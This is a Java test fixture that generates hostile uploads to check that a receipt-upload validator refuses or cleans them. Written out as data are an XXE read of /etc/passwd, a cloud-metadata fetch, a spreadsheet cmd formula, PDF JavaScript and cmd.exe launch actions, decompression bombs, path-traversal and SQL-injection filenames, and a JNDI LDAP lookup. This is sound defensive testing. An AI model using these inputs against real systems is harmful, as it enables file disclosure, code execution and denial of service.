package org.alongside.support.expense;

import static org.alongside.support.expense.Drawn.bytes;
import static org.alongside.support.expense.Drawn.chunk;
import static org.alongside.support.expense.Drawn.cut;
import static org.alongside.support.expense.Drawn.gif;
import static org.alongside.support.expense.Drawn.join;
import static org.alongside.support.expense.Drawn.jpeg;
import static org.alongside.support.expense.Drawn.jpegWith;
import static org.alongside.support.expense.Drawn.measures;
import static org.alongside.support.expense.Drawn.number;
import static org.alongside.support.expense.Drawn.packed;
import static org.alongside.support.expense.Drawn.pdf;
import static org.alongside.support.expense.Drawn.pdfOf;
import static org.alongside.support.expense.Drawn.pdfPageSaying;
import static org.alongside.support.expense.Drawn.pdfSaying;
import static org.alongside.support.expense.Drawn.png;
import static org.alongside.support.expense.Drawn.pngOf;
import static org.alongside.support.expense.Drawn.pngWith;
import static org.alongside.support.expense.Drawn.segment;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.apache.pdfbox.pdmodel.PDDocumentNameDictionary;
import org.apache.pdfbox.pdmodel.PDEmbeddedFilesNameTreeNode;
import org.apache.pdfbox.pdmodel.common.filespecification.PDComplexFileSpecification;
import org.apache.pdfbox.pdmodel.common.filespecification.PDEmbeddedFile;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.apache.pdfbox.pdmodel.interactive.action.PDActionJavaScript;

/** Two hundred files that nobody wants on their server, made here. None of them comes from anywhere. */
final class HostileUploads {
    /** Stands in everything that must not be kept. */
    static final String PAYLOAD = "ALONGSIDE-PAYLOAD";

    private static final String DAMAGED = "support.receipts.refusal.damaged";
    private static final String DOES_MORE = "support.receipts.refusal.does-more";
    private static final String EMPTY = "support.receipts.refusal.empty";
    private static final String LOCKED = "support.receipts.refusal.locked";
    private static final String NOT_SUPPORTED = "support.receipts.refusal.not-supported";
    private static final String OF_A_PHONE = "support.receipts.refusal.of-a-phone";
    private static final String TOO_LARGE = "support.receipts.refusal.too-large";
    private static final String TOO_MANY_PAGES = "support.receipts.refusal.too-many-pages";
    private static final String TOO_MANY_POINTS = "support.receipts.refusal.too-many-points";

    /** What becomes of a file whose picture or page is fine: it is kept without the rest. */
    static final String KEPT_CLEAN = "kept clean";

    private static final int ELEVEN_MEGABYTES = 11 * 1024 * 1024;

    /**
     * A file.
     *
     * @param what in words, for the report
     * @param becomes the key of the refusal, or {@link #KEPT_CLEAN}
     */
    @SuppressWarnings("ArrayRecordComponent")
    record Upload(String what, String becomes, byte[] bytes) {
        @Override
        public String toString() {
            return what;
        }
    }

    private final List<Upload> all = new ArrayList<>();

    private HostileUploads() {}

    static List<Upload> all() {
        HostileUploads uploads = new HostileUploads();
        uploads.otherKinds();
        uploads.tooLarge();
        uploads.pngs();
        uploads.jpegs();
        uploads.polyglots();
        uploads.pdfsThatDoMore();
        uploads.brokenPdfs();
        uploads.names();
        return List.copyOf(uploads.all);
    }

    private void add(String what, String becomes, byte[] bytes) {
        all.add(new Upload(what, becomes, bytes));
    }

    private void otherKinds() {
        add("nothing", EMPTY, new byte[0]);
        text("HTML", "<!DOCTYPE html><script>" + PAYLOAD + "</script>");
        text("HTML without a doctype", "<script>" + PAYLOAD + "</script>");
        text("HTML after a byte order mark", "\u00ef\u00bb\u00bf<html><body onload=" + PAYLOAD + ">");
        add("HTML in UTF-16", NOT_SUPPORTED, ("\ufeff<html>" + PAYLOAD).getBytes(StandardCharsets.UTF_16BE));
        text("HTML that names a JPEG", "<!-- \u00ff\u00d8\u00ff --><script>" + PAYLOAD + "</script>");
        text("SVG with a script", "<svg xmlns='http://www.w3.org/2000/svg'><script>" + PAYLOAD + "</script></svg>");
        text("SVG with onload", "<svg xmlns='http://www.w3.org/2000/svg' onload='" + PAYLOAD + "'/>");
        text("SVG with a page inside", "<svg><foreignObject><body onload='" + PAYLOAD + "'/></foreignObject></svg>");
        text("SVG that fetches", "<svg><image href='http://169.254.169.254/" + PAYLOAD + "'/></svg>");
        text("XML bomb", "<!DOCTYPE l [<!ENTITY a '" + PAYLOAD + "'><!ENTITY b '&a;&a;&a;&a;'>]><l>&b;&b;</l>");
        text("XML that grows by squares", "<!DOCTYPE l [<!ENTITY a '" + "x".repeat(20_000) + "'>]><l>&a;&a;</l>");
        text("XML that reads files", "<!DOCTYPE l [<!ENTITY a SYSTEM 'file:///etc/passwd'>]><l>&a;</l>");
        text("program of Windows", "MZ\u0090\0\u0003" + PAYLOAD);
        text("program of Linux", "\u007fELF\u0002\u0001\u0001" + PAYLOAD);
        text("program of a Mac", "\u00cf\u00fa\u00ed\u00fe" + PAYLOAD);
        text("class of Java", "\u00ca\u00fe\u00ba\u00be\0\0\0=" + PAYLOAD);
        text("shell script", "#!/bin/sh\n" + PAYLOAD);
        text("PHP", "<?php " + PAYLOAD + " ?>");
        text("JSP", "<%= " + PAYLOAD + " %>");
        text("JavaScript", "alert('" + PAYLOAD + "')");
        text("link of Windows", "L\0\0\0\u0001\u0014\u0002\0" + PAYLOAD);
        text("formula for a spreadsheet", "=cmd|' /C " + PAYLOAD + "'!A0");
        text("RTF", "{\\rtf1 " + PAYLOAD + "}");
        text("PostScript", "%!PS-Adobe-3.0\n" + PAYLOAD);
        text("e-mail", "From: a@example.org\r\nContent-Type: image/jpeg\r\n\r\n" + PAYLOAD);
        text("multipart that holds a JPEG", "--x\r\nContent-Type: image/jpeg\r\n\r\n\u00ff\u00d8\u00ff" + PAYLOAD);
        text("old document of Office", "\u00d0\u00cf\u0011\u00e0\u00a1\u00b1\u001a\u00e1" + PAYLOAD);
        add("ZIP", NOT_SUPPORTED, zip(bytes(PAYLOAD)));
        add("ZIP bomb", NOT_SUPPORTED, zip(new byte[8 * 1024 * 1024]));
        add("ZIP in a ZIP", NOT_SUPPORTED, zip(zip(zip(bytes(PAYLOAD)))));
        add("GZIP bomb", NOT_SUPPORTED, gzip(new byte[8 * 1024 * 1024]));
        text("7z", "7z\u00bc\u00af'\u001c" + PAYLOAD);
        text("RAR", "Rar!\u001a\u0007\u0001\0" + PAYLOAD);
        add("GIF", NOT_SUPPORTED, gif());
        add("GIF that is JavaScript, too", NOT_SUPPORTED, bytes("GIF89a/*\0\0*/=1;" + PAYLOAD));
        add("animated GIF", NOT_SUPPORTED, join(gif(), bytes("!\u00ff\u000bNETSCAPE2.0\u0003\u0001\0\0\0" + PAYLOAD)));
        add("BMP", NOT_SUPPORTED, Drawn.bmp());
        add("TIFF", NOT_SUPPORTED, Drawn.tiff());
        text("JPEG 2000", "\0\0\0\u000cjP  \r\n\u0087\n" + PAYLOAD);
        add("WebP", OF_A_PHONE, bytes("RIFF\u0010\0\0\0WEBPVP8 " + PAYLOAD));
        add("HEIC", OF_A_PHONE, bytes("\0\0\0\u0018ftypheic" + PAYLOAD));
        add("AVIF", OF_A_PHONE, bytes("\0\0\0\u0018ftypavif" + PAYLOAD));
        text("one byte", "\u00ff");
        text("PNG whose ends of lines were changed", "\u0089PNG\n\u001a\n" + PAYLOAD);
        text("PDF after a blank", " %PDF-1.7\n" + PAYLOAD);
        add("PDF after a GIF", NOT_SUPPORTED, join(gif(), pdf(1)));
        add("JPEG after HTML", NOT_SUPPORTED, join(bytes("<html>" + PAYLOAD), jpeg(8, 8)));
    }

    private void text(String what, String text) {
        add(what, NOT_SUPPORTED, bytes(text));
    }

    private void tooLarge() {
        add("11 MB of nothing", TOO_LARGE, new byte[ELEVEN_MEGABYTES]);
        add("JPEG with 11 MB behind it", TOO_LARGE, join(jpeg(40, 30), new byte[ELEVEN_MEGABYTES]));
        add("PNG with 11 MB behind it", TOO_LARGE, join(png(40, 30), new byte[ELEVEN_MEGABYTES]));
        add("PDF with 11 MB in it", TOO_LARGE, join(bytes("%PDF-1.7\n%"), new byte[ELEVEN_MEGABYTES], pdf(1)));
    }

    private void pngs() {
        int[][] measures = {
            {60_000, 60_000}, {Integer.MAX_VALUE, Integer.MAX_VALUE}, {30_001, 1}, {1, 30_001}, {6_325, 6_325}
        };
        for (int[] size : measures) {
            add(
                    "PNG of " + size[0] + " x " + size[1],
                    TOO_MANY_POINTS,
                    pngOf(measures(size[0], size[1], 8, 2), chunk("IDAT", packed(1000)), chunk("IEND", new byte[0])));
        }
        damagedPng("of no width", measures(0, 10, 8, 2), chunk("IDAT", packed(1000)));
        damagedPng("of a height below nought", measures(10, -1, 8, 2), chunk("IDAT", packed(1000)));
        damagedPng("of unknown colours", measures(10, 10, 8, 5), chunk("IDAT", packed(1000)));
        damagedPng("of seven bits", measures(10, 10, 7, 2), chunk("IDAT", packed(1000)));
        damagedPng("of two bits for each of three colours", measures(10, 10, 2, 2), chunk("IDAT", packed(1000)));
        damagedPng("whose points unpack to 100 MB", measures(10, 10, 8, 2), chunk("IDAT", packed(100 * 1024 * 1024)));
        damagedPng(
                "whose palette picture unpacks to 50 MB",
                measures(10, 10, 1, 0),
                chunk("IDAT", packed(50 * 1024 * 1024)));
        damagedPng("with too few points", measures(1000, 1000, 8, 2), chunk("IDAT", packed(1000)));
        damagedPng("of 40 megapixels without points", measures(6_000, 6_000, 16, 6), chunk("IDAT", packed(10)));
        damagedPng("whose points are not packed", measures(10, 10, 8, 2), chunk("IDAT", bytes(PAYLOAD)));
        damagedPng("without points", measures(10, 10, 8, 2));
        damagedPng("with a short head", chunk("IHDR", new byte[5]));
        damagedPng("with a second head", measures(10, 10, 8, 2), measures(60_000, 60_000, 8, 2));
        damagedPng("without a head", chunk("IDAT", packed(1000)));
        byte[] plain = png(40, 30);
        add(
                "PNG with a part longer than itself",
                DAMAGED,
                pngOf(measures(9, 9, 8, 2), number(Integer.MAX_VALUE), bytes("IDAT" + PAYLOAD)));
        add(
                "PNG with a part of a length below nought",
                DAMAGED,
                pngOf(measures(9, 9, 8, 2), number(-1), bytes("IDAT" + PAYLOAD)));
        byte[] wrong = plain.clone();
        wrong[20] ^= 1;
        add("PNG with a wrong sum", DAMAGED, wrong);
        for (int length : new int[] {8, 20, 33, 40, plain.length - 12, plain.length - 1}) {
            add("PNG cut after " + length + " bytes", DAMAGED, cut(plain, length));
        }
    }

    private void damagedPng(String what, byte[]... chunks) {
        add("PNG " + what, DAMAGED, pngOf(join(chunks), chunk("IEND", new byte[0])));
    }

    private void jpegs() {
        byte[] plain = jpeg(40, 30);
        for (int length :
                new int[] {3, 10, 20, 100, plain.length / 2, plain.length - 10, plain.length - 2, plain.length - 1}) {
            add("JPEG cut after " + length + " bytes", DAMAGED, cut(plain, length));
        }
        add("JPEG of 65535 x 65535", TOO_MANY_POINTS, jpegOf(frame(0xC0, 8, 65_535, 65_535, 3)));
        add("JPEG that builds up, of 65535 x 65535", TOO_MANY_POINTS, jpegOf(frame(0xC2, 8, 65_535, 65_535, 3)));
        add("JPEG of 1 x 65535", TOO_MANY_POINTS, jpegOf(frame(0xC0, 8, 1, 65_535, 3)));
        damagedJpeg("of no height", frame(0xC0, 8, 10, 0, 3));
        damagedJpeg("of no width", frame(0xC0, 8, 0, 10, 3));
        damagedJpeg("of twelve bits", frame(0xC1, 12, 10, 10, 3));
        damagedJpeg("for a printing press", frame(0xC0, 8, 10, 10, 4));
        damagedJpeg("of a kind without loss", frame(0xC3, 8, 10, 10, 3));
        damagedJpeg("of a kind with arithmetic", frame(0xC9, 8, 10, 10, 3));
        damagedJpeg("with two frames", frame(0xC0, 8, 10, 10, 3), frame(0xC0, 8, 10, 10, 3));
        damagedJpeg("with a scan before its frame", segment(0xDA, new byte[] {1, 1, 0, 0, 63, 0}));
        damagedJpeg(
                "with a hundred scans",
                frame(0xC2, 8, 10, 10, 3),
                repeated(segment(0xDA, new byte[] {1, 1, 0, 0, 63, 0}), 100));
        damagedJpeg("with a part of no length", new byte[] {(byte) 0xFF, (byte) 0xE1, 0, 0});
        add("JPEG with words where its first part should be", NOT_SUPPORTED, jpegOf(bytes(PAYLOAD)));
        damagedJpeg("with words between its parts", segment(0xFE, bytes("a")), bytes(PAYLOAD));
        damagedJpeg("with nothing in it");
        damagedJpeg("with a frame and no scan", frame(0xC0, 8, 10, 10, 3));
    }

    private void damagedJpeg(String what, byte[]... parts) {
        add("JPEG " + what, DAMAGED, jpegOf(parts));
    }

    private static byte[] jpegOf(byte[]... parts) {
        return join(bytes("\u00ff\u00d8"), join(parts), bytes("\u00ff\u00d9"));
    }

    private static byte[] frame(int marker, int bits, int width, int height, int colours) {
        byte[] head = {
            (byte) bits, (byte) (height >> 8), (byte) height, (byte) (width >> 8), (byte) width, (byte) colours
        };
        return segment(marker, join(head, new byte[3 * colours]));
    }

    private static byte[] repeated(byte[] part, int times) {
        byte[][] parts = new byte[times][];
        Arrays.fill(parts, part);
        return join(parts);
    }

    /** Files that are a picture and something else: the picture is kept. */
    private void polyglots() {
        List<Upload> behind = List.of(
                new Upload("a ZIP", "", zip(bytes(PAYLOAD))),
                new Upload("HTML", "", bytes("<script>" + PAYLOAD + "</script>")),
                new Upload("PHP", "", bytes("<?php " + PAYLOAD + "; __HALT_COMPILER(); ?>")),
                new Upload("a program", "", bytes("MZ" + PAYLOAD)),
                new Upload("a RAR", "", bytes("Rar!\u001a\u0007\u0001\0" + PAYLOAD)),
                new Upload(
                        "a PDF with JavaScript",
                        "",
                        pdfSaying("/OpenAction << /S /JavaScript /JS (" + PAYLOAD + ") >>")),
                new Upload("a ZIP bomb", "", join(zip(new byte[4 * 1024 * 1024]), bytes(PAYLOAD))),
                new Upload("another picture", "", join(jpeg(8, 8), bytes(PAYLOAD))));
        for (Upload hidden : behind) {
            add("JPEG with " + hidden.what() + " behind it", KEPT_CLEAN, join(jpeg(40, 30), hidden.bytes()));
            add("PNG with " + hidden.what() + " behind it", KEPT_CLEAN, join(png(40, 30), hidden.bytes()));
            add("JPEG with " + hidden.what() + " as a comment", KEPT_CLEAN, jpegWith(segment(0xFE, hidden.bytes())));
        }
        keptJpeg("where it was taken", segment(0xE1, bytes("Exif\0\0MM\0*\0\0\0\u0008\0\u0001\u0088%" + PAYLOAD)));
        keptJpeg("Exif that points at itself", segment(0xE1, bytes("Exif\0\0II*\0\u0008\0\0\0\u00ff\u00ff" + PAYLOAD)));
        keptJpeg("Exif that points away", segment(0xE1, bytes("Exif\0\0II*\0\u00ff\u00ff\u00ff\u007f" + PAYLOAD)));
        keptJpeg(
                "a script in its description",
                segment(0xE1, bytes("http://ns.adobe.com/xap/1.0/\0<script>" + PAYLOAD)));
        keptJpeg("a colour profile that is none", segment(0xE2, bytes("ICC_PROFILE\0\u0001\u0001" + PAYLOAD)));
        keptJpeg("words for a picture editor", segment(0xED, bytes("Photoshop 3.0\0" + PAYLOAD)));
        keptPng("PHP as a text", chunk("tEXt", bytes("Comment\0<?php " + PAYLOAD)));
        keptPng("a packed text that is a bomb", chunk("zTXt", join(bytes(PAYLOAD + "\0\0"), packed(20 * 1024 * 1024))));
        keptPng(
                "a colour profile that is a bomb",
                chunk("iCCP", join(bytes(PAYLOAD + "\0\0"), packed(20 * 1024 * 1024))));
        keptPng("a script in a text of all languages", chunk("iTXt", bytes("XML\0\0\0\0\0<script>" + PAYLOAD)));
        keptPng("where it was taken", chunk("eXIf", bytes("MM\0*" + PAYLOAD)));
        keptPng("a part that nobody knows", chunk("aLoN", bytes(PAYLOAD)));
        keptPng(
                "further pictures",
                chunk("acTL", join(number(1000), number(0))),
                chunk("tEXt", bytes("a\0" + PAYLOAD)));
    }

    private void keptJpeg(String what, byte[] segment) {
        add("JPEG with " + what, KEPT_CLEAN, jpegWith(segment));
    }

    private void keptPng(String what, byte[]... chunks) {
        add("PNG with " + what, KEPT_CLEAN, pngWith(chunks));
    }

    private void pdfsThatDoMore() {
        doesMore(
                "runs JavaScript when it is opened",
                pdf(1, document -> document.getDocumentCatalog().setOpenAction(new PDActionJavaScript(PAYLOAD))));
        doesMore("holds a file", pdf(1, document -> {
            PDComplexFileSpecification file = new PDComplexFileSpecification();
            file.setFile("payload.exe");
            file.setEmbeddedFile(new PDEmbeddedFile(document, new java.io.ByteArrayInputStream(bytes(PAYLOAD))));
            PDEmbeddedFilesNameTreeNode files = new PDEmbeddedFilesNameTreeNode();
            files.setNames(java.util.Map.of("payload", file));
            PDDocumentNameDictionary names = new PDDocumentNameDictionary(document.getDocumentCatalog());
            names.setEmbeddedFiles(files);
            document.getDocumentCatalog().setNames(names);
        }));
        String deed = "/OpenAction << /S /";
        doesMore(
                "says JavaScript with an escape",
                pdfSaying("/OpenAction << /S /Java#53cript /J#53 (" + PAYLOAD + ") >>"));
        doesMore(
                "has JavaScript in a part of its own",
                pdfSaying("/OpenAction 4 0 R", "<< /S /JavaScript /JS 5 0 R >>", "(" + PAYLOAD + ")"));
        doesMore(
                "has JavaScript among its names",
                pdfSaying(
                        "/Names << /JavaScript << /Names [(a) 4 0 R] >> >>",
                        "<< /S /JavaScript /JS (" + PAYLOAD + ") >>"));
        doesMore(
                "has JavaScript after a deed that is fine",
                pdfSaying(deed + "GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (" + PAYLOAD + ") >> >>"));
        doesMore("starts a program", pdfSaying(deed + "Launch /F (cmd.exe) /Win << /F (" + PAYLOAD + ") >> >>"));
        doesMore("opens another file", pdfSaying(deed + "GoToR /F (" + PAYLOAD + ") >>"));
        doesMore("opens a file within", pdfSaying(deed + "GoToE /T << /R /C >> >>"));
        doesMore("sends what is filled in", pdfSaying(deed + "SubmitForm /F (http://example.org/" + PAYLOAD + ") >>"));
        doesMore("brings in data", pdfSaying(deed + "ImportData /F (" + PAYLOAD + ") >>"));
        doesMore("shows a film", pdfSaying(deed + "Rendition /OP 0 >>"));
        doesMore("links to a script", pdfPageSaying(link("/A << /S /URI /URI (javascript:" + PAYLOAD + ") >>")));
        doesMore("links to a file", pdfPageSaying(link("/A << /S /URI /URI (file:///etc/passwd) >>")));
        doesMore("links to a share", pdfPageSaying(link("/A << /S /URI /URI (\\\\\\\\example.org\\\\share) >>")));
        doesMore("does something when its page is shown", pdfPageSaying("/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>"));
        doesMore("asks to be filled in", pdfSaying("/AcroForm << /Fields [] >>"));
        doesMore("asks in XML to be filled in", pdfSaying("/AcroForm << /XFA (" + PAYLOAD + ") >>"));
        doesMore("is a case for other files", pdfSaying("/Collection << /View /D >>"));
        doesMore("goes with a file", pdfSaying("/AF [<< /Type /Filespec /F (" + PAYLOAD + ") >>]"));
        doesMore("has a file pinned to its page", pdfPageSaying(annotation("FileAttachment")));
        doesMore("has a film on its page", pdfPageSaying(annotation("Movie")));
        doesMore("has a sound on its page", pdfPageSaying(annotation("Sound")));
        doesMore("has a screen on its page", pdfPageSaying(annotation("Screen")));
        doesMore("has Flash on its page", pdfPageSaying(annotation("RichMedia")));
        doesMore("has a thing in three dimensions on its page", pdfPageSaying(annotation("3D")));
        doesMore("has a field on its page", pdfPageSaying(annotation("Widget")));
    }

    private void doesMore(String what, byte[] pdf) {
        add("PDF that " + what, DOES_MORE, pdf);
    }

    private static String link(String action) {
        return "/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] " + action + " >>]";
    }

    private static String annotation(String kind) {
        return "/Annots [<< /Type /Annot /Subtype /" + kind + " /Rect [0 0 9 9] >>]";
    }

    private void brokenPdfs() {
        add("PDF with a password", LOCKED, locked("open", "owner"));
        add("PDF that must not be copied", LOCKED, locked("", "owner"));
        add(
                "PDF locked in a way that nobody opens here",
                DAMAGED,
                replaced(
                        pdfSaying(""),
                        "trailer\n<< ",
                        "trailer\n<< /ID [(a) (b)] /Encrypt << /V 4 /Filter /Adobe.PubSec >> "));
        add("PDF of 21 pages", TOO_MANY_PAGES, pdf(21));
        add("PDF of 300 pages", TOO_MANY_PAGES, pdf(300));
        add("PDF without pages", DAMAGED, pdf(0));
        add("PDF of its first line", DAMAGED, bytes("%PDF-1.7\n"));
        add("PDF of HTML", DAMAGED, bytes("%PDF-1.7\n<script>" + PAYLOAD + "</script>\n%%EOF"));
        add(
                "PDF of noise",
                DAMAGED,
                join(bytes("%PDF-1.7\n"), repeated(bytes("\u0081\u0007" + PAYLOAD), 500), bytes("\n%%EOF")));
        add("PDF whose pages are their own parents", DAMAGED, pdfOf("<< /Type /Catalog /Pages 1 0 R >>"));
        byte[] plain = pdfSaying("");
        for (int length : new int[] {15, 60, 120, plain.length / 2, plain.length - 20, plain.length - 3}) {
            add("PDF cut after " + length + " bytes", DAMAGED, cut(plain, length));
        }
        byte[] bomb = packed(130 * 1024 * 1024);
        add(
                "PDF whose parts unpack to 130 MB",
                DAMAGED,
                stream("/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode", bomb));
        add(
                "PDF packed twice",
                DAMAGED,
                stream("/Type /ObjStm /N 1 /First 4 /Filter [/FlateDecode /FlateDecode]", packed(100)));
        add("PDF packed as of old", DAMAGED, stream("/Filter /LZWDecode", bytes(PAYLOAD)));
        add("PDF with HTML behind it", KEPT_CLEAN, join(pdf(1), bytes("<script>" + PAYLOAD + "</script>")));
        add("PDF with a ZIP behind it", KEPT_CLEAN, join(pdf(1), zip(bytes(PAYLOAD))));
        add(
                "PDF with a part that nothing leads to",
                KEPT_CLEAN,
                pdfSaying("", "<< /S /JavaScript /JS (" + PAYLOAD + ") >>"));
        add(
                "PDF that says where it was made",
                KEPT_CLEAN,
                pdf(1, document -> document.getDocumentInformation().setAuthor(PAYLOAD)));
    }

    private static byte[] replaced(byte[] file, String part, String other) {
        return bytes(new String(file, StandardCharsets.ISO_8859_1).replace(part, other));
    }

    private static byte[] stream(String dictionary, byte[] content) {
        byte[] whole = pdfSaying("");
        String plain = new String(whole, StandardCharsets.ISO_8859_1);
        int at = plain.indexOf("xref");
        return join(
                cut(whole, at),
                bytes("4 0 obj\n<< " + dictionary + " /Length " + content.length + " >>\nstream\n"),
                content,
                bytes("\nendstream\nendobj\n"),
                Arrays.copyOfRange(whole, at, whole.length));
    }

    private static byte[] locked(String password, String owner) {
        return pdf(
                1, document -> document.protect(new StandardProtectionPolicy(owner, password, new AccessPermission())));
    }

    /** What a file is called is part of nothing, so a bad name on a good picture does no harm. */
    private void names() {
        List<String> names = List.of(
                "<script>.jpg",
                "../../etc/passwd.jpg",
                "a\0.jpg.exe",
                "photo\r\nSet-Cookie: a=b.jpg",
                "\u202Egpj.exe",
                "a".repeat(5000) + ".jpg",
                "'; drop table receipt; --.jpg",
                "${jndi:ldap://example.org/a}.jpg");
        for (String name : names) {
            add(
                    "JPEG called " + name.replaceAll("\\p{C}", "?").substring(0, Math.min(name.length(), 30)),
                    KEPT_CLEAN,
                    jpegWith(segment(0xFE, (name + PAYLOAD).getBytes(StandardCharsets.UTF_8))));
        }
    }

    private static byte[] zip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
            zip.putNextEntry(new ZipEntry("../../" + PAYLOAD));
            zip.write(content);
            zip.closeEntry();
        } catch (IOException inMemory) {
            throw new UncheckedIOException(inMemory);
        }
        return bytes.toByteArray();
    }

    private static byte[] gzip(byte[] content) {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream zip = new GZIPOutputStream(bytes)) {
            zip.write(content);
        } catch (IOException inMemory) {
            throw new UncheckedIOException(inMemory);
        }
        return bytes.toByteArray();
    }
}
